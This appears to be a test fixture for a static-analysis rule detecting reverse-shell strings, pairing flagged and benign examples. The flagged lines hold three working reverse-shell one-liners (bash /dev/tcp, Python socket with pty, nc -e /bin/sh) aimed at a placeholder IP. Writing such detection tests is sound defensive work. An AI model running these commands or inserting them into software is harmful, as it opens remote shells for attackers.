import os

# ruleid: reverse-shell-string
CMD = "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"

# ruleid: reverse-shell-string
ONE = "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'"

# ruleid: reverse-shell-string
NC = "nc -e /bin/sh 203.0.113.7 4444"

# ok: reverse-shell-string
DEV = "/dev/null"

# ok: reverse-shell-string
os.system("nc -z example.invalid 80")

# ok: reverse-shell-string
PROBE = "timeout 1 bash -c 'echo > /dev/tcp/db/5432'"
